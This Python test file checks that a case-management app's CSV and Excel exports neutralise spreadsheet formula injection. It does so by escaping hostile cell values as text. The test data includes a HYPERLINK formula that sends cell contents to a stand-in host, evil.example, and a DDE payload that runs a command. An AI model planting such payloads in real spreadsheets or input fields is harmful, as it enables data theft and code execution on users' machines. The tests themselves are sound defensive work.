"""Spreadsheet formula injection: text from a case (a title `=HYPERLINK(...)`, a leader's name `@SUM(...)`, a
full-width `＝`) must reach the audit CSV and the Excel exports as text, never as a formula. Both databases."""
from __future__ import annotations

import csv
import io
import json

from openpyxl import load_workbook

from tests.support.web import api_sign_in, office_app

TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
NOTE = "+cmd|' /C calc'!A0"


def test_audit_csv_writes_formula_text_as_text(container):
    app = office_app(container)
    rt = container.runtime
    case = rt.start("simple_case", {"title": TITLE, "category": "－1+1", "location": "county_a",
                                    "petitioner": {"name": "@SUM(1+1)"}}, "registrar")
    rt.complete(case.tasks[0].id, {"signed": True, "note": NOTE}, "handler")
    auditor, _ = api_sign_in(app, "auditor")
    r = auditor.get(f"/api/cases/{case.id}/export?format=csv")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    dangerous = tuple("=+-@\t\r＝＋－＠")
    assert not [c for c in cells if c.startswith(dangerous)], "a cell a spreadsheet would evaluate"
    after = {row[7]: row[9] for row in rows[1:] if row[7]}
    assert after["note"] == "'" + NOTE
    assert after["title"] == "'" + TITLE and after["category"] == "'－1+1"


def test_list_export_keeps_formula_text_as_text(container):
    from engine.store import CaseRegister

    app = office_app(container)
    case = container.runtime.start("simple_case", {"title": "工资拖欠", "location": "county_a"}, "registrar")
    now = container.clock.now()
    with container.session_factory() as s, s.begin():
        s.add(CaseRegister(case_id=case.id, register="resolution", key="化解-1", unit="county_a",
                           person="@SUM(1+1)", status="open", opened_at=now, updated_at=now,
                           data=json.dumps({"case_no": "=1+1", "item": "＝HYPERLINK(\"http://evil.example\")",
                                            "status": "\tcmd"}, ensure_ascii=False)))
    bureau, _ = api_sign_in(app, "bureau")
    r = bureau.get("/lists/export.xlsx?register=resolution")
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.data)).active
    row = [c for c in ws[2]]
    assert "f" not in {c.data_type for c in row}  # no formula cell
    assert [c.value for c in row[:5]] == ["'=1+1", "东城县", "'@SUM(1+1)", "'＝HYPERLINK(\"http://evil.example\")",
                                          "'\tcmd"]
